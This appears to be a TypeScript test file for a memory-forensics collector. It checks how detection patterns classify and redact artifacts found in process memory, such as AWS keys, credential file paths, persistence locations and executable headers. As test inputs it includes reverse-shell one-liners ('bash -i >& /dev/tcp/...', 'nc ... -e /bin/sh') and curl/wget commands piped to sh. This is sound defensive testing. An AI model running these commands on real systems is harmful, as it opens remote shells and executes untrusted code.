import { assertEquals } from "@std/assert";
import fc from "fast-check";
import { RE2JS } from "re2js";
import { ARTIFACTS, type Place } from "../../../collectors/memmond/artifacts.ts";
import { builtInFinder } from "../../../collectors/memmond/patterns.ts";
import { digestOf, disclose } from "../../../collectors/memmond/secrecy.ts";

const HEAP: Place = { address: 0x1010, region_type: "heap", permissions: "rw-p" };

/** Everything that a text is, at a place. */
function kindsOf(text: string, place = HEAP) {
  return ARTIFACTS.flatMap((artifact) => {
    const match = builtInFinder(artifact).find(text, 0);
    if (!match) return [];
    const found = text.slice(match.start, match.end);
    const confidence = artifact.confidence(found, place);
    if (confidence === undefined) return [];
    const value = artifact.value?.(found) ?? disclose(found, artifact.disclosure);
    return [[artifact.type, artifact.category, value, confidence]];
  });
}

Deno.test("what is telling is told with what it is and how sure that is", () => {
  const one = (text: string, ...row: readonly (string | number)[]) =>
    assertEquals(kindsOf(`\0${text}\0`), [row]);
  const hidden = (shown: string, text: string) => `${shown}*** sha256:${digestOf(text)}`;
  one("AKIAIOSFODNN7EXAMPLE", "key", "credential", hidden("AKIA", "AKIAIOSFODNN7EXAMPLE"), 0.95);
  one("https://example.org/", "connection", "network", "https://example.org/", 0.8);
  one("198.51.100.7:4444", "connection", "network", "198.51.100.7:4444", 0.7);
  one("/etc/shadow", "file", "credential", "/etc/shadow", 0.7);
  one("/home/user/.ssh/id_ed25519", "file", "credential", "/home/user/.ssh/id_ed25519", 0.7);
  one("/root/.aws/credentials", "file", "credential", "/root/.aws/credentials", 0.7);
  one("/etc/ld.so.preload", "file", "persistence", "/etc/ld.so.preload", 0.5);
  one("/etc/cron.d/updates", "file", "persistence", "/etc/cron.d/updates", 0.5);
  one("/root/.ssh/authorized_keys", "file", "persistence", "/root/.ssh/authorized_keys", 0.5);
  one("/dev/shm/.x/y", "file", "other", "/dev/shm/.x/y", 0.4);
  one(
    "bash -i >& /dev/tcp/192.0.2.1/9",
    "command",
    "execution",
    "bash -i >& /dev/tcp/192.0.2.1/9",
    0.8,
  );
  one("nc 192.0.2.1 9 -e /bin/sh", "command", "execution", "nc 192.0.2.1 9 -e /bin/sh", 0.8);
  one("password=hunter22", "string", "credential", hidden("password", "password=hunter22"), 0.4);
  assertEquals(kindsOf("curl -s http://192.0.2.1/x | sh\0").map(([type]) => type), [
    "connection",
    "command",
  ]);
  assertEquals(kindsOf("/tmp/.x/evil.so\0").map(([type]) => type), ["module", "file"]);
  for (
    const text of [
      "/etc/passwd",
      "/tmp/a/b.txt",
      "/etc/shadows",
      "/tmp/",
      "password=",
      "1.2.3.4:0",
      "curl x",
      "ELF",
    ]
  ) assertEquals(kindsOf(text), [], text);
});

Deno.test("of a command no password, header or query is told", () => {
  const shown = (command: string) => {
    const rows = kindsOf(`\0${command}\0`).filter(([type]) => type === "command");
    assertEquals(rows.length, 1, command);
    return String(rows[0]![2]).replace(` sha256:${digestOf(command)}`, "");
  };
  for (
    const [command, told] of [
      ["curl -fsSL https://example.org/x.sh | sh", "curl -fsSL https://example.org/x.sh | sh"],
      ["curl https://u:p@ss@h.example/a?t=s3cret | sh", "curl https://***@h.example/a?*** | sh"],
      ["curl me:s3cret@h.example/a |bash", "curl ***@h.example/a |bash"],
      ["curl -sH 'X-Token: s3cret' h.example | sh", "curl -sH *** h.example | sh"],
      ["curl -ume:s3cret h.example | sh", "curl -u*** h.example | sh"],
      ["wget --header=Cookie:s3cret -O- h.example | sh", "wget --header=*** -O- h.example | sh"],
      [
        "wget --http-password s3cret -qO- h.example|sh",
        "wget --http-password *** -qO- h.example|sh",
      ],
    ] as const
  ) assertEquals(shown(command), told);
});

Deno.test("the header of a program is telling where there should be none", () => {
  const elf = "\x7fELF\x02\x01\x01\0";
  const pe = `MZ${"\0".repeat(100)}PE\0\0\x64\x86`;
  const sure = (text: string, place: Partial<Place>) =>
    kindsOf(text, { ...HEAP, ...place }).map(([type, , value, confidence]) =>
      type === "header" && [value, confidence]
    );
  assertEquals(sure(elf, { permissions: "rwxp" }), [["ELF 64-bit", 0.9]]);
  assertEquals(sure(elf, { address: 0x1000 }), [["ELF 64-bit", 0.5]]);
  assertEquals(sure(elf, {}), []);
  assertEquals(sure(elf, { address: 0x1000, region_type: "data" }), []);
  assertEquals(sure(pe, { permissions: "r-xp", region_type: "anonymous" }), [["PE 64-bit", 0.9]]);
  assertEquals(sure(pe.replace("\x64\x86", "\x4c\x01"), { address: 0 }), [["PE 32-bit", 0.5]]);
});

Deno.test("both engines understand what is telling alike, whatever the bytes", () => {
  const unit = fc.oneof(
    fc.constantFrom(
      "/tmp/",
      "a.so",
      "MZ",
      "PE\0\0\x64\x86",
      "\x7fELF",
      "\x02\x01\x01",
      "sh",
      " -i ",
    ),
    fc.constantFrom(
      "password=",
      "curl ",
      "| sh",
      "/dev/tcp/",
      "1.2.3.4",
      ":99",
      "/root/.ssh/id_rsa",
    ),
    fc.array(fc.nat(255), { maxLength: 9 }).map((codes) => String.fromCharCode(...codes)),
  );
  fc.assert(
    fc.property(fc.array(unit, { maxLength: 8 }), (parts) => {
      const text = parts.join("");
      for (const artifact of ARTIFACTS) {
        const match = builtInFinder(artifact).find(text, 0);
        const matcher = RE2JS.compile(artifact.regex).matcher(text);
        const expected = matcher.find()
          ? { start: matcher.start(), end: matcher.end() }
          : undefined;
        assertEquals(match, expected, artifact.regex);
      }
    }),
    { numRuns: Number(Deno.env.get("PROPERTY_RUNS") ?? 1000) / 10 },
  );
});
